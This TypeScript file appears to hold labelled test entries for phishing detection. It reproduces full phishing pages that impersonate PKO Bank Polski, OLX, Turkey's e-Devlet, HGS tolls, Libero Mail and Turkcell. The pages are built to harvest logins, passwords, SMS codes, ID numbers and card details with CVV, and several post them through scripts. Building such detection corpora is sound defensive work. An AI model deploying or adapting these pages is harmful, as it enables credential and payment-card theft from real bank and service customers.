import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, gtag, cookieBar, footer, nav, baseCss, cardFields, pngR, js, json } from '../parts/o-kit.js';

// Reported phishing from Poland, Germany, Italy, France, Spain and Turkey (bank, post, toll, tax, ID, telco, webmail).

export const entries: Entry[] = [
{
  id: 'o-phish-pl-ipko-three-step',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://ipko-autoryzacja24.online/logowanie/',
  body: doc({
    lang: 'pl',
    title: 'iPKO – Logowanie',
    css: baseCss('"pko_bank_pl", Arial, sans-serif', '#f2f4f7') + `.top{background:#003574;height:64px;display:flex;align-items:center;padding:0 6%}.top img{height:34px}.box{max-width:420px;margin:50px auto}.btn{background:#003574;width:100%}.step{display:none}.step.on{display:block}.warn{font-size:12px;background:#fff8e1;border-left:3px solid #f9a825;padding:8px 10px;margin-top:16px}`,
    body: `<div class="top"><img src="/static/img/pko-logo.png" alt="PKO Bank Polski"></div>
<div class="box card">
 <h1 style="font-size:22px;color:#003574">Logowanie do serwisu iPKO</h1>
 <form id="f1" class="step on"><label for="login">Numer klienta lub login</label><input id="login" name="login" autocomplete="username"><button class="btn" type="submit">Dalej</button>
 <p class="muted"><a href="#">Nie pamiętam loginu</a> · <a href="#">Aktywuj dostęp</a></p></form>
 <form id="f2" class="step"><p class="muted">Login: <b id="lg"></b></p><label for="pw">Hasło</label><input id="pw" type="password" name="haslo" autocomplete="current-password"><button class="btn" type="submit">Zaloguj</button></form>
 <form id="f3" class="step"><p>W celu potwierdzenia tożsamości przepisz kod SMS, który wysłaliśmy na Twój numer telefonu. Operacja: <b>Autoryzacja nowego urządzenia</b>.</p><label for="sms">Kod SMS</label><input id="sms" name="kod" inputmode="numeric" maxlength="8"><button class="btn" type="submit">Potwierdź</button></form>
 <div id="f4" class="step"><p>Trwa weryfikacja. Nie zamykaj okna, może to potrwać do 5 minut…</p></div>
 <div class="warn">Pamiętaj: PKO Bank Polski nigdy nie prosi o instalowanie aplikacji do zdalnego pulpitu.</div>
</div>
${footer([['PKO Bank Polski', ['Kontakt', 'Placówki i bankomaty', 'Bezpieczeństwo']], ['Pomoc', ['Infolinia 800 302 302', 'Zastrzeż kartę']]], '© 2026 PKO Bank Polski S.A. Wszelkie prawa zastrzeżone.')}
<script>
var d={ua:navigator.userAgent};
function go(n){document.querySelectorAll('.step').forEach(function(e){e.classList.remove('on')});document.getElementById('f'+n).classList.add('on');}
function send(){return fetch('/logowanie/api/zapisz.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).catch(function(){});}
f1.onsubmit=function(e){e.preventDefault();d.login=login.value;lg.textContent=login.value;send();go(2)};
f2.onsubmit=function(e){e.preventDefault();d.haslo=pw.value;send();go(3)};
f3.onsubmit=function(e){e.preventDefault();d.sms=sms.value;send();go(4);setTimeout(function(){location.href='https://www.pkobp.pl/'},240000)};
</script>`,
  }),
  routes: {
    'ipko-autoryzacja24.online/static/img/pko-logo.png': pngR(0, 53, 116),
    'ipko-autoryzacja24.online/logowanie/api/zapisz.php': json({ ok: 1 }),
  },
},
{
  id: 'o-phish-pl-olx-odbierz-srodki',
  label: 'phishing',
  kind: 'marketplace-payout',
  url: 'https://olx.pl-bezpieczna-transakcja.shop/oferta/odbior/id8841277',
  body: doc({
    lang: 'pl',
    title: 'OLX.pl – Odbierz środki za sprzedany przedmiot',
    css: baseCss('Geomanist, Arial, sans-serif', '#f2f4f5') + `header{background:#002f34;color:#fff;padding:16px 6%;font-size:26px;font-weight:900}.item{display:flex;gap:16px;align-items:center}.item img{width:90px;height:90px;background:#ddd;border-radius:6px}.btn{background:#002f34;width:100%}.badge{background:#23e5db;color:#002f34;padding:3px 8px;border-radius:3px;font-size:12px;font-weight:700}`,
    body: `<header>OLX</header>
<main style="max-width:560px">
<div class="card">
 <span class="badge">Przesyłka OLX · Bezpieczna transakcja</span>
 <h1 style="font-size:21px">Kupujący opłacił Twój przedmiot</h1>
 <div class="item"><img src="/oferta/img/thumb.png" alt=""><div><b>Wózek dziecięcy Cybex Priam 3w1</b><br>Kwota: <b>1 450,00 zł</b><br><span class="muted">Kupujący: Katarzyna W.</span></div></div>
 <p>Środki zostały zarezerwowane na Twoją rzecz. Aby je otrzymać, podaj dane karty, na którą mamy przelać pieniądze. Nie pobieramy żadnych opłat.</p>
 <form id="f" method="post" action="/oferta/odbior/potwierdz">
 ${cardFields({ num: 'Numer karty do wypłaty', exp: 'Ważna do', cvv: 'CVV', name: 'Imię i nazwisko' })}
 <label>Aktualne saldo karty (wymagane do weryfikacji)</label><input name="saldo" placeholder="np. 2500 zł">
 <button class="btn">Odbierz 1 450,00 zł</button></form>
 <p class="muted">Chroni Cię Program Ochrony Kupujących i Sprzedających OLX. Dane są szyfrowane.</p>
</div></main>
<div id="chat" style="position:fixed;right:18px;bottom:18px;background:#fff;border:1px solid #ccc;border-radius:8px;padding:10px 14px;font-size:13px;box-shadow:0 2px 8px rgba(0,0,0,.15)">💬 Konsultant OLX: <i>Dzień dobry, w razie problemów jestem do dyspozycji</i></div>`,
  }),
  routes: { 'olx.pl-bezpieczna-transakcja.shop/oferta/img/thumb.png': pngR(160, 160, 170) },
},
{
  id: 'o-phish-tr-edevlet-iade',
  label: 'phishing',
  kind: 'national-id',
  url: 'https://turkiye-gov-tr.edevlet-aidat-iade.com/giris',
  body: doc({
    lang: 'tr',
    title: 'e-Devlet Kapısı - Aidat İadesi Sorgulama',
    css: baseCss('Arial, sans-serif', '#eef2f5') + `header{background:#c8102e;color:#fff;padding:14px 6%;font-size:20px;font-weight:700}.btn{background:#c8102e;width:100%}.tabs{display:flex;border-bottom:1px solid #ddd;margin-bottom:12px}.tabs span{padding:8px 12px;font-size:14px}.tabs .on{border-bottom:3px solid #c8102e;font-weight:700}`,
    body: `<header>türkiye.gov.tr <span style="font-weight:400;font-size:14px">e-Devlet Kapısı</span></header>
<main style="max-width:520px">
<p style="background:#fff3cd;padding:10px;border-radius:4px">2025 yılı kesilen <b>hesap işletim ücreti ve kart aidatı iadeleri</b> e-Devlet üzerinden başlatılmıştır. İade tutarınızı öğrenmek için giriş yapınız.</p>
<div class="card"><div class="tabs"><span class="on">e-Devlet Şifresi</span><span>Mobil İmza</span><span>Elektronik İmza</span><span>İnternet Bankacılığı</span></div>
<form id="f"><label>T.C. Kimlik No</label><input name="tc" maxlength="11" inputmode="numeric">
<label>e-Devlet Şifresi</label><input name="sifre" type="password">
<button class="btn">Giriş Yap</button></form>
<div id="s2" style="display:none"><p>İade tutarınız: <b style="font-size:22px;color:#2e7d32">2.847,60 TL</b></p><p>İadenin hesabınıza aktarılması için kart bilgilerinizi doğrulayınız.</p>
<form method="post" action="/iade/kart.php">${cardFields({ num: 'Kart Numarası', exp: 'Son Kullanma Tarihi', cvv: 'CVV' })}<label>Telefon</label><input name="gsm"><button class="btn">İadeyi Al</button></form></div>
</div></main>
<script>f.onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/giris/kaydet.php');x.send(new FormData(f));f.parentNode.querySelector('.tabs').style.display='none';f.style.display='none';s2.style.display='block'};</script>`,
  }),
  routes: { 'turkiye-gov-tr.edevlet-aidat-iade.com/giris/kaydet.php': json({ status: 'ok' }) },
},
{
  id: 'o-phish-tr-hgs-ihlal',
  label: 'phishing',
  kind: 'toll-fee',
  url: 'https://hgs-ihlal-odeme.net/sorgula.php',
  body: doc({
    lang: 'tr',
    title: 'HGS İhlalli Geçiş Ödeme',
    css: baseCss('Arial, sans-serif', '#f5f5f5') + `header{background:#ffcc00;padding:12px 6%;font-weight:900;color:#003366;font-size:22px}.btn{background:#003366;width:100%}`,
    body: `<header>HGS <span style="font-weight:400;font-size:14px">Hızlı Geçiş Sistemi · PTT A.Ş.</span></header>
<main style="max-width:500px"><div class="card">
<h1 style="font-size:20px">İhlalli Geçiş Sorgulama ve Ödeme</h1>
<p>Aracınıza ait <b>ödenmemiş köprü/otoyol geçişi</b> bulunmaktadır. 15 gün içinde ödenmeyen geçişler için <b>10 kat para cezası</b> uygulanır.</p>
<form id="q"><label>Plaka</label><input name="plaka" placeholder="34 ABC 123"><button class="btn">Sorgula</button></form>
<div id="r" style="display:none"><p>Osmangazi Köprüsü – 1 geçiş: <b>₺ 995,00</b><br>Erken ödeme indirimi ile: <b style="color:#c62828">₺ 59,90</b></p>
<form method="post" action="/odeme/3d.php">${cardFields({ num: 'Kart Numarası', exp: 'Son Kullanma', cvv: 'CVV', name: 'Kart Sahibi' })}<button class="btn">Öde</button></form></div>
</div><p class="muted">Bu site 256-bit SSL ile korunmaktadır. © PTT A.Ş. Tüm hakları saklıdır.</p></main>
<script>q.onsubmit=function(e){e.preventDefault();q.style.display='none';r.style.display='block'};</script>`,
  }),
},
{
  id: 'o-phish-it-libero-mail',
  label: 'phishing',
  kind: 'webmail',
  url: 'https://login-libero-it.mailbox-aggiornamento.com/',
  body: doc({
    lang: 'it',
    title: 'Libero Mail - login',
    css: baseCss('Roboto, Arial, sans-serif', '#f0f3f8') + `.w{max-width:400px;margin:50px auto}.logo{font-size:36px;color:#0071bc;font-weight:700;text-align:center}.btn{background:#0071bc;width:100%;border-radius:24px}`,
    body: `<div class="w"><div class="logo">libero<span style="color:#ffb400">.</span>mail</div>
<div class="card"><h1 style="font-size:19px;text-align:center">Accedi alla tua casella</h1>
<p class="muted">Gentile utente, a seguito dell'aggiornamento dei sistemi di sicurezza è necessario verificare il proprio account entro 48 ore, altrimenti la casella verrà disattivata.</p>
<form method="post" action="/verifica.php"><label>Email</label><input name="login" placeholder="nome@libero.it"><label>Password</label><input type="password" name="pwd"><label><input type="checkbox" style="width:auto" checked> Resta connesso</label><button class="btn">Verifica account</button></form></div>
<p class="muted" style="text-align:center">Italiaonline S.p.A. 2026 – P. IVA 03970540963</p></div>
<script src="/js/jquery.min.js"></script>`,
  }),
  routes: { 'login-libero-it.mailbox-aggiornamento.com/js/jquery.min.js': js('/*! jQuery v3.6.0 | (c) OpenJS Foundation */window.jQuery=window.$=function(s){return document.querySelectorAll(s)};') },
},
{
  id: 'o-phish-tr-turkcell-fatura',
  label: 'phishing',
  kind: 'telco-bill',
  url: 'https://turkcell-fatura-iade.online/',
  body: doc({
    lang: 'tr',
    title: 'Turkcell | Fatura İadesi',
    css: baseCss('Arial, sans-serif', '#f4f6fa') + `header{background:#ffc900;padding:14px 6%;color:#253342;font-weight:800;font-size:22px}.btn{background:#253342;width:100%}`,
    body: `<header>Turkcell</header>
<main style="max-width:480px"><div class="card"><h1 style="font-size:20px">Fazla Tahsil Edilen Fatura İadesi</h1>
<p>Sayın abonemiz, Ekim 2026 faturanızda <b>fazladan tahsil edilen 349,90 TL</b> kartınıza iade edilecektir. İade için bilgilerinizi eksiksiz doldurunuz.</p>
<form method="post" action="/iade.php"><label>Cep Telefonu</label><input name="gsm" value="05"><label>T.C. Kimlik No</label><input name="tc">
${cardFields({ num: 'Kart Numarası', exp: 'SKT', cvv: 'CVV' })}<button class="btn">İadeyi Başlat</button></form></div>
<p class="muted">© 2026 Turkcell İletişim Hizmetleri A.Ş.</p></main>`,
  }),
},
];
